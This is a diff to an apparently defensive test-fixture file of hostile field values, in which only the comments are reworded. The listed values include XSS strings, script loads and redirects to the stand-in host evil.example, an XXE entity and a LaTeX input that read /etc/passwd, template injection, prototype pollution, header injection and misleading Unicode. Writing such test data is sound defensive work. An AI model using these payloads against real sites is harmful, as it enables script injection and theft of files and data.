@@ -1,9 +1,9 @@
 /**
- * What an attacker, a careless program or an unusual writer puts into a field. Whatever would run
- * sets `window.hostile`; whatever would be an element has `data-intruder`, where it can.
+ * Hostile and unusual field values. Executed code sets `window.hostile`; injected elements have the
+ * attribute `data-intruder` where possible.
  */
 export const PAYLOADS: readonly string[] = [
-  // Elements that run something.
+  // Elements that execute code.
   '<script data-intruder>window.hostile=1</script>',
   '<ScRiPt/data-intruder>window.hostile=1</sCrIpT >',
   '<script src="https://evil.example/x.js" data-intruder></script>',
@@ -18,7 +18,7 @@ export const PAYLOADS: readonly string[] = [
   '<embed data-intruder src="data:image/svg+xml,<svg onload=parent.hostile=1>">',
   '<math data-intruder><mtext><mglyph><style><img src=x onerror=window.hostile=1>',
   '<video data-intruder><source onerror=window.hostile=1></video>',
-  // Elements that load, lead away or change what stands around them.
+  // Elements that load files, redirect, or affect the rest of the page.
   '<base data-intruder href="https://evil.example/">',
   '<meta data-intruder http-equiv="refresh" content="0;url=https://evil.example/">',
   '<link data-intruder rel=stylesheet href="https://evil.example/x.css">',
@@ -29,7 +29,7 @@ export const PAYLOADS: readonly string[] = [
   '<textarea data-intruder>',
   '<a data-intruder id=body name=documentElement href="javascript:window.hostile=1">here</a>',
   '<offprint-search data-intruder data-state=ready></offprint-search>',
-  // The end of an attribute, an element, a script, a comment or a piece of XML.
+  // Ends of an attribute, an element, a script, a comment or XML.
   '" onmouseover="window.hostile=1" data-intruder="',
   "' onfocus='window.hostile=1' autofocus data-intruder='",
   '"><b data-intruder>out</b>',
@@ -41,14 +41,14 @@ export const PAYLOADS: readonly string[] = [
   ']]><b data-intruder>out</b><![CDATA[',
   '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
   '</textarea></template></noscript></style><b data-intruder>out</b>',
-  // What a template or a reader of JSON might take for its own.
+  // Syntax of templates and JSON.
   '{{constructor.constructor("window.hostile=1")()}} {%raw%} <%= 1 %>',
   '${window.hostile=1} {window.hostile=1} #{1} @{1}',
   '{"@context":"https://schema.org","@type":"Person"}],"x":"</script>',
   '"},{"@type":"Thing","name":"evil',
   '{"__proto__":{"hostile":1}} __proto__ constructor toString',
   "$& $1 $` $' %s %n %00 %0d%0aX-Evil:1",
-  // Addresses that are none.
+  // Invalid and dangerous addresses.
   'javascript:window.hostile=1',
   ' JaVaScRiPt&#58;window.hostile=1 java\tscript:alert(1)',
   'data:text/html,<script data-intruder>window.hostile=1</script>',
@@ -58,13 +58,13 @@ export const PAYLOADS: readonly string[] = [
   '\\href{javascript:window.hostile=1}{press} \\url{data:text/html,x} \\input{/etc/passwd}',
   '$\\href{javascript:window.hostile=1}{x}$ $\\text{<b data-intruder>}$ $\\style{x:y}{z}$',
   '$\\class{x" data-intruder="}{y}$ $\\unicode{0} \\def\\x{\\x\\x}\\x$',
-  // Entities, halves and signs that mean nothing.
+  // Entities, lone surrogates, control characters and noncharacters.
   '&lt;script data-intruder&gt; &#60;b&#62; &#x3C;b&gt &amp;amp; &notanentity; &#0; &#xD800;',
   'half a pair \uD83D and \uDE00 its other half',
   'zero\0byte bell\x07 escape\x1b[31m delete\x7f next\x85line',
   'not\uFFFEa\uFFFFcharacter \u{1FFFE} \u{10FFFF}',
   'line\u2028separator paragraph\u2029separator',
-  // What the eye gets wrong.
+  // Bidirectional text, invisible characters and very wide text.
   '\u202Eesrever \u202Dforced \u2066isolate \u2067left open',
   '‏مرحبا <b data-intruder>עולם</b> 123 (אבג) !',
   'zero\u200Bwidth\u200Cjoin\u200Ders\uFEFF\u00AD\u2060hidden',
@@ -73,7 +73,7 @@ export const PAYLOADS: readonly string[] = [
   'ﷺ'.repeat(30),
   '👩‍👩‍👧‍👦'.repeat(40),
   '\u{E0001}\u{E0041} tags \u{F0000} private \uFFFC \uFFFD',
-  // Words that programs take for something else.
+  // Words with a special meaning in some programs.
   'null',
   'undefined',
   'NaN',
